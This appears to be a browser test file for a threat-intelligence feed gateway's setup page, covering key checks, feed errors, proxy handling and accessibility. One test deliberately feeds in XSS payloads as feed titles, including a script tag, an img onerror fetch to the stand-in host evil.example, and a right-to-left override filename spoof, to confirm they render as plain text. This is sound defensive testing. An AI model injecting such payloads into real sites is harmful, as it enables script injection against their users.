import { once } from 'node:events'
import { createServer, request as httpRequest } from 'node:http'
import type { AddressInfo } from 'node:net'
import t, { type Test } from 'tap'
import type { SimulatorOptions } from '../../src/demo/simulator.ts'
import { buildGateway, type GatewayOptions } from '../support/app.ts'
import { seriousFindings, startBrowser } from '../support/browser.ts'
import { openFirstPage } from '../support/first-page.ts'
import { startGateway } from '../support/gateway-process.ts'

/** The set-up page in a browser, in front of a simulated Sekoia. */

const browser = await startBrowser(t)
const { openPage } = browser

/** A gateway that does not listen yet, and an empty tab. */
async function build(t: Test, env: Record<string, string>) {
  const gateway = await buildGateway(t, { env })
  return { ...gateway, page: await openPage(t) }
}

const open = (t: Test, options?: GatewayOptions) => openFirstPage(t, browser, options)

t.test('a newcomer starts the demo, enters its key, and copies the URL for MISP', async t => {
  const { url } = await startGateway(t, { DEMO_OBJECTS: '200' })
  const page = await openPage(t, { permissions: ['clipboard-read', 'clipboard-write'] })
  await page.goto(url)
  await page.getByText('Its key is demo-key').waitFor()
  await page.keyboard.type('demo-key')
  await page.keyboard.press('Enter')
  await page.getByRole('heading', { name: 'All is well' }).waitFor()
  await page.getByRole('radio', { name: 'Set up Sekoia default feed' }).waitFor()
  await page.getByText('MISP 2.4 and 2.5').click()
  await page.getByRole('button', { name: 'Copy URL', exact: true }).click()
  await page.getByText('URL copied').waitFor()
  const feed = 'd6092c37-d8d7-45c3-8aff-c4dc26030608'
  t.equal(await page.evaluate('navigator.clipboard.readText()'), `${url}/misp/${feed}`)
  const header = 'Copy Any headers to be passed with requests, with your key'
  await page.getByRole('button', { name: header }).click()
  await page.getByText('requests, with your key copied').waitFor()
  t.equal(
    await page.evaluate('navigator.clipboard.readText()'),
    'Authorization: Bearer demo-key',
    'the key is put in'
  )
})

t.test('an expired key is told as one that Sekoia does not accept', async t => {
  const { page, enter, simulator } = await open(t)
  simulator.putKey('old-key', { status: 'expired' })
  await enter('old-key')
  await page.getByRole('alert').filter({ hasText: 'expired' }).waitFor()
})

t.test('a key without a permission is told which one, and what it is for', async t => {
  const { page, enter, simulator } = await open(t)
  simulator.putKey('no-intelligence', { permissions: ['viewFeeds'] })
  await enter('no-intelligence')
  await page.getByText('lacks "View intelligence": in Sekoia, give it that permission').waitFor()
  await page.getByRole('button', { name: 'Forget it' }).click()
  simulator.putKey('no-list', { permissions: ['viewIntelligence'] })
  await enter('no-list')
  await page.getByText('lacks "View feeds": only the default feed is listed').waitFor()
})

const custom = '11111111-1111-4111-8111-111111111111'
const withFeed = (feed: NonNullable<SimulatorOptions['feeds']>[number]): SimulatorOptions => ({
  objects: 60,
  switches: { date: 'clock' },
  feeds: [{ id: custom, ...feed }]
})

t.test('a feed that is newest first says so, and what to change in Sekoia', async t => {
  const { page, enter, simulator } = await open(t, {
    simulator: withFeed({ title: 'Upside down', sort_order: 'desc' })
  })
  await enter(simulator.key)
  const row = page.getByRole('row').filter({ hasText: 'Upside down' })
  await row.getByText('set its sort order to oldest first (asc)').waitFor()
})

t.test('a feed that cannot be read says why; the others go on', async t => {
  const { page, enter, simulator } = await open(t, { simulator: withFeed({ title: 'Gone' }) })
  simulator.faults.rate({ kind: 'status', status: 403, match: custom }, 1)
  await enter(simulator.key)
  const row = page.getByRole('row').filter({ hasText: 'Gone' })
  await row.getByText('Cannot be read.').waitFor()
  await row.getByText('permission to view intelligence').waitFor()
  t.ok(await page.getByRole('radio', { name: 'Set up Sekoia default feed' }).isChecked())
})

t.test('the operator sees the feeds of all keys, and tries none', async t => {
  const token = 'operator-token-of-this-test'
  const { page, enter, send } = await open(t, { env: { OPERATOR_TOKEN: token } })
  await send({ url: '/sekoia/collections/' })
  await enter(token)
  await page.getByText('curl', { exact: true }).click()
  await page.locator('#curl').getByText('the operator token opens no feed').waitFor()
})

t.test('another address for clients than that of the page is told', async t => {
  const env = { PUBLIC_URL: 'https://cti.example.com/feeds' }
  const { page, enter, simulator } = await open(t, { env })
  await enter(simulator.key)
  await page.getByText('Clients are given the address https://cti.example.com/feeds').waitFor()
})

t.test('what comes from feeds is text, whatever it says', async t => {
  const titles = [
    '<script>alert(1)</script>',
    '<img src=x onerror="fetch(\'//evil.example\')">',
    '\u202Egnp exe\u2066\u202D',
    'long'.repeat(25_000)
  ]
  const feeds = titles.map((title, index) => ({
    id: `2222222${index}-1111-4111-8111-111111111111`,
    title,
    sort_order: 'asc' as const
  }))
  const { page, enter, simulator } = await open(t, { simulator: { objects: 20, feeds } })
  await enter(simulator.key)
  await page.getByRole('cell').getByText('<script>alert(1)</script>', { exact: true }).waitFor()
  t.equal(await page.locator('main script, main img').count(), 0)
  for (const { title } of [{ title: '<script>alert(1)</script>' }, { title: titles[2]! }]) {
    await page.getByRole('radio', { name: `Set up ${title}` }).click()
    await page.getByText('curl', { exact: true }).waitFor()
  }
  const isWide = await page.evaluate('document.documentElement.scrollWidth > innerWidth')
  t.equal(isWide, false, 'no title makes the page wider than the screen')
})

t.test('a feed that is being prepared says how far, and is not the one to set up', async t => {
  const { page, enter, simulator } = await open(t, {
    simulator: withFeed({ title: 'Upside down', sort_order: 'desc' })
  })
  simulator.faults.rate({ kind: 'slow', delayMs: 3000, match: custom }, 1)
  await enter(simulator.key)
  const row = page.getByRole('row').filter({ hasText: 'Upside down' })
  await row.getByText('read once as a whole before it is listed').waitFor()
  await row.getByText('set its sort order to oldest first (asc)').waitFor()
  t.notOk(await page.getByRole('radio', { name: 'Set up Upside down' }).isChecked())
  await page.getByRole('heading', { name: 'Works, with something to change' }).waitFor()
})

t.test('behind a proxy with a path the page works, and gives out its address', async t => {
  const { page, listen, simulator } = await build(t, { SERVER_TRUST_PROXY: '127.0.0.1' })
  const gateway = await listen()
  const proxy = createServer((request, response) => {
    const { url = '', headers, method } = request
    const forwarded = { 'x-forwarded-prefix': '/cti', 'x-forwarded-host': headers.host }
    const own = httpRequest(gateway + url.replace(/^\/cti/, ''), {
      method,
      headers: { ...headers, ...forwarded }
    })
    own.on('response', answer => {
      response.writeHead(answer.statusCode!, answer.headers)
      answer.pipe(response)
    })
    request.pipe(own)
  })
  await once(proxy.listen(0, '127.0.0.1'), 'listening')
  t.teardown(() => proxy.closeAllConnections())
  t.teardown(() => proxy.close())
  const address = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}/cti`
  await page.goto(`${address}/`)
  await page.keyboard.type(simulator.key)
  await page.keyboard.press('Enter')
  await page.getByText('curl', { exact: true }).click()
  await page.locator('#curl').getByText(`${address}/taxii2/`).waitFor()
  t.equal(await page.getByText('Clients are given the address').count(), 0)
  await page.locator('#curl').getByRole('button', { name: 'Send its requests now' }).click()
  await page.getByText('Every request of this client is answered as it needs.').waitFor()
})

t.test('with OPS_PORT the page of that listener takes the token, and says so to a key', async t => {
  const token = 'operator-token-of-this-test'
  const { page, listenOps, simulator } = await build(t, { OPERATOR_TOKEN: token, OPS_PORT: '1' })
  await page.goto(await listenOps())
  await page.getByLabel('Operator token').fill(simulator.key)
  await page.keyboard.press('Enter')
  await page.getByRole('alert').filter({ hasText: 'keys of Sekoia are for the public' }).waitFor()
  await page.getByLabel('Operator token').fill(token)
  await page.keyboard.press('Enter')
  await page.getByText('Clients use the public address').waitFor()
})

t.test(
  'axe finds nothing serious with a tile open, in light and in dark, small or large',
  async t => {
    const { page, enter, simulator } = await open(t)
    await enter(simulator.key)
    const tile = page.locator('#misp')
    await tile.waitFor()
    const details = "document.querySelectorAll('#misp, #misp details, .panel')"
    await page.evaluate(`for (const node of ${details}) node.open = true`)
    await tile.getByRole('button', { name: 'Send its requests now' }).click()
    await tile.locator('.summary').waitFor()
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme })
      t.strictSame(await seriousFindings(page), [], colorScheme)
    }
    await page.setViewportSize({ width: 360, height: 740 })
    await page.evaluate("for (const node of document.querySelectorAll('details')) node.open = true")
    const isWide = await page.evaluate('document.documentElement.scrollWidth > innerWidth')
    t.equal(isWide, false, 'nothing is wider than a phone')
  }
)
